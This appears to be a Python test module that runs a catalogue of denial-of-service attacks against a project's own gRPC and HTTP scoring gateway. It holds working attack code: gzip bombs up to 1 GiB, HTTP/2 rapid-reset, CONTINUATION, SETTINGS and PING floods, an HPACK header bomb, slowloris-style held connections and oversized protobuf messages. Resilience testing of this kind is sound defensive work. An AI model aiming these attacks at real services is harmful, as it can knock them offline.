"""What a stranger may send: each attack runs until its time is over, or until the gateway takes no more of it.

PYTHONPATH=tests:clients/python:. .venv/bin/python -m attacks.arsenal NAME SECONDS GRPC HTTP REQUEST [CERTIFICATE]
"""

import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from attacks.http_arsenal import HTTP_ATTACKS
from attacks.stranger import Closed, Stranger, Target, message_head
from raw_http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, SETTINGS, frame, header_block, resets

from bridge.codecs.protobuf import varint

__all__ = ["ARSENAL", "Attack"]

_SCORE = header_block("/scorebridge.v1.ScoringService/Score")
_GZIPPED = header_block("/scorebridge.v1.ScoringService/Score", grpc_encoding="gzip")
_MIB = 1 << 20
_FULL = 4 * _MIB - 64  # the largest message that is taken
Body = Callable[[Target], Iterable[bytes]]


@dataclass(frozen=True)
class Attack:
    """One kind.

    Attributes:
        run: does it.
        native: the native front holds it too.
        grpc: grpc.aio holds it for as long as it goes on, and not only for a moment.
    """

    run: Callable[[Target], None]
    native: bool = False
    grpc: bool = True


def _field(tag: int, content: bytes) -> bytes:
    return varint(tag) + varint(len(content)) + content


def _together(count: int, work: Callable[[Target], None]) -> Callable[[Target], None]:
    """The same on so many connections at once, again and again."""

    def again(target: Target) -> None:
        while time.monotonic() < target.until:
            with suppress(OSError):  # that it is sent away, or is late, is what it has to expect
                work(target)

    def run(target: Target) -> None:
        threads = [threading.Thread(target=again, args=(target,)) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    return run


def _calls(count: int, body: Body, block: bytes = _SCORE) -> Callable[[Target], None]:
    """So many callers, each with one such call after the other."""

    def call(target: Target) -> None:
        with Stranger(target) as stranger:
            for stream in range(1, 100, 2):
                with suppress(Closed):
                    stranger.call(stream, block, body(target))
                stranger.wait(stream)

    return _together(count, call)


def _message(make: Callable[[], bytes], *, compressed: bool = False) -> Body:
    """A message of this content, which is made when it is first sent."""
    content = cache(make)
    return lambda _: (message_head(len(content()), compressed=compressed), content())


def _gzip_bomb(inflated: int) -> Body:
    def pack() -> bytes:
        packer = zlib.compressobj(9, wbits=31)
        zeros = bytes(_MIB)
        return b"".join([*(packer.compress(zeros) for _ in range(inflated // _MIB)), packer.flush()])

    return _message(pack, compressed=True)


def _endless(length: int, sent: int) -> Body:
    def parts(target: Target) -> Iterator[bytes]:
        yield message_head(length)
        for _ in range(sent // _MIB):
            yield bytes(_MIB)
        time.sleep(target.left_s)  # held for as long as it may be

    return parts


def _flood(piece: bytes, begun: bytes = b"") -> Callable[[Target], None]:
    """Frames, one after the other, none of whose answers is read."""

    def send(target: Target) -> None:
        with Stranger(target) as stranger:
            stranger.send(begun)
            while time.monotonic() < target.until:
                stranger.send(piece * 64)

    return _together(2, send)


def _rapid_resets(target: Target) -> None:
    with Stranger(target) as stranger:
        stranger.send(resets(20_000, _SCORE))


def _half_sent_streams(target: Target) -> None:
    with Stranger(target) as stranger:
        for stream in range(1, 20_001, 2):
            stranger.send(frame(HEADERS, END_HEADERS, stream, _SCORE), frame(DATA, 0, stream, message_head(100)))
        time.sleep(target.left_s)


def _header_bomb(target: Target) -> None:
    # One header of 4,000 bytes goes into the table; every byte after it stands for the whole of it again.
    first = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
    with Stranger(target) as stranger:
        for stream in range(1, 1000, 2):
            block = _SCORE + (first if stream == 1 else b"") + b"\xbe" * 12_000
            stranger.send(frame(HEADERS, END_HEADERS, stream, block))


def _unread(window: int) -> Callable[[Target], None]:
    """Callers that ask for scores and never take them."""

    def ask(target: Target) -> None:
        whole = message_head(len(target.request)) + target.request
        with Stranger(target, window=window) as stranger:
            for stream in range(1, 400, 2):
                stranger.call(stream, _SCORE, (whole,))
            time.sleep(target.left_s)

    return _together(2, ask)


def _connections(count: int, said: bytes, *, http: bool = False) -> Callable[[Target], None]:
    """So many connections that say so much, and then nothing."""

    def hold(target: Target) -> None:
        with ExitStack() as held:
            for _ in range(count):
                with suppress(OSError):
                    one = held.enter_context(target.connect(target.http_address if http else target.grpc_address))
                    one.sendall(said)
            time.sleep(target.left_s)

    return hold


def _scoring(count: int) -> Callable[[Target], None]:
    """Calls as they should be, of many rows, and more of them than can be answered."""
    return _calls(count, lambda target: (message_head(len(target.request)) + target.request,))


_ONE_ROW = _field(0x0A, b"\x0a\x01x" + _field(0x12, _field(0x0A, bytes(8))))

ARSENAL: dict[str, Attack] = {
    "a million empty columns": Attack(
        _calls(4, _message(lambda: _field(0x2A, b"\x0a\x02\x12\x00" * 1_000_000))), native=True
    ),
    "a row of 16,385 columns": Attack(_calls(4, _message(lambda: _field(0x2A, _ONE_ROW * 16_385))), native=True),
    "two million empty texts, 32 at once": Attack(
        _calls(
            32,
            _message(lambda: _field(0x2A, _field(0x0A, b"\x0a\x01x" + _field(0x32, b"\x0a\x00" * (_FULL // 2 - 32))))),
        ),
        native=True,
    ),
    "two million names of a matrix": Attack(
        _calls(8, _message(lambda: _field(0x22, b"\x0a\x00" * (_FULL // 2 - 8)))), native=True
    ),
    "1.9 million row keys": Attack(_calls(8, _message(lambda: b"\x32\x00" * 1_900_000)), native=True),
    "300,000 labels": Attack(_calls(8, _message(lambda: b"\x52\x00" * 300_000)), native=True),
    "deep groups": Attack(_calls(8, _message(lambda: b"\x7b" * 2_000_000)), native=True),
    "unknown fields": Attack(_calls(8, _message(lambda: b"\x78\x01" * 1_900_000)), native=True),
    "calls as they should be, too many": Attack(_scoring(32), native=True),
    "a gzip message of 5 MiB": Attack(_calls(4, _gzip_bomb(5 * _MIB), _GZIPPED), native=True),
    "a gzip message of 64 MiB": Attack(_calls(4, _gzip_bomb(64 * _MIB), _GZIPPED)),
    "a gzip message of 1 GiB": Attack(_calls(4, _gzip_bomb(1024 * _MIB), _GZIPPED)),
    "a message of 600 MiB": Attack(_calls(2, _endless(600 * _MIB, 600 * _MIB))),
    "a length of 4 GiB, 600 MiB sent and held": Attack(_calls(2, _endless((4 << 30) - 1, 600 * _MIB))),
    "rapid resets on one connection": Attack(_together(1, _rapid_resets), native=True),
    "rapid resets on two connections": Attack(_together(2, _rapid_resets), native=True),
    "endless CONTINUATION": Attack(
        _flood(frame(CONTINUATION, 0, 1, header_block("/a/B", x_long="x" * 1000)), frame(HEADERS, 0, 1, _SCORE)),
        grpc=False,
    ),
    "empty CONTINUATION": Attack(_flood(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, _SCORE))),
    "HPACK bomb": Attack(_together(2, _header_bomb), native=True),
    "SETTINGS flood": Attack(_flood(frame(SETTINGS))),
    "PING flood": Attack(_flood(frame(PING, 0, 0, bytes(8)))),
    "empty DATA": Attack(_flood(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, _SCORE))),
    "10,000 half-sent streams": Attack(_together(1, _half_sent_streams), native=True),
    "zero windows": Attack(_unread(0)),
    "slow readers": Attack(_unread(2**31 - 1)),
    "idle connections": Attack(_connections(300, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)), native=True),
    "half-open connections": Attack(_connections(300, b"PRI * HTTP/2"), native=True),
    "half-sent HTTP requests": Attack(_connections(300, b"GET /readyz HTTP/1.1\r\nHost: x", http=True), native=True),
} | {name: Attack(run, native=True) for name, run in HTTP_ATTACKS.items()}


def main() -> None:
    """Runs one of them."""
    name, seconds, grpc_address, http_address, request = sys.argv[1:6]
    certificate = Path(sys.argv[6]) if len(sys.argv) > 6 else None
    until = time.monotonic() + float(seconds)
    ARSENAL[name].run(Target(grpc_address, http_address, certificate, Path(request).read_bytes(), until))


if __name__ == "__main__":
    main()
